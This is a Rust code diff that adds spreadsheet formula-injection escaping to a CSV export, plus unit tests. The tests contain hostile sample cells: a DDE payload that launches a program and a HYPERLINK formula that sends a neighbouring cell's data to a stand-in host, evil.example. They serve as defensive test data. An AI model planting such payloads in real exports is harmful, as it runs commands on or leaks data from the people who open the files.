@@ -12,11 +12,31 @@ pub struct Sheet {
     pub rows: Vec<Vec<String>>,
 }
 
+/// A spreadsheet reads a cell starting with `=`, `+`, `-`, `@` (or a tab or CR before
+/// them) as a formula: `=HYPERLINK(…)` in a subscriber's name would run when a finance
+/// clerk opens the export (F10). Such cells get a leading apostrophe, which Excel shows
+/// as text; plain numbers (`-5`, `+7`) are left as they are.
+fn neutralise(s: &str) -> std::borrow::Cow<'_, str> {
+    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let number = {
+        let t = s.strip_prefix(['+', '-']).unwrap_or(s);
+        !t.is_empty()
+            && t.chars()
+                .all(|c| c.is_ascii_digit() || c == '.' || c == ',')
+    };
+    if risky && !number {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    }
+}
+
 fn csv_field(s: &str) -> String {
+    let s = neutralise(s);
     if s.contains([';', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_owned()
+        s.into_owned()
     }
 }
 
@@ -120,5 +140,22 @@ mod tests {
             rows: vec![vec!["4027291410".into()]],
         };
         assert!(xlsx(&s).unwrap().starts_with(b"PK\x03\x04"));
+    }
+
+    #[test]
+    fn formulas_are_written_as_text() {
+        assert_eq!(csv_field("=1+2;cmd"), "\"'=1+2;cmd\"");
+        assert_eq!(
+            csv_field("@SUM(1+1)*cmd|' /C calc'!A0"),
+            "'@SUM(1+1)*cmd|' /C calc'!A0"
+        );
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil.example/?\"&A2,\"Открыть\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Открыть\"\")\""
+        );
+        assert_eq!(csv_field("+7 900 000 0000"), "'+7 900 000 0000");
+        assert_eq!(csv_field("\t=cmd"), "'\t=cmd");
+        assert_eq!(csv_field("-4900.00"), "-4900.00");
+        assert_eq!(csv_field("ООО «Ромашка»"), "ООО «Ромашка»");
     }
 }
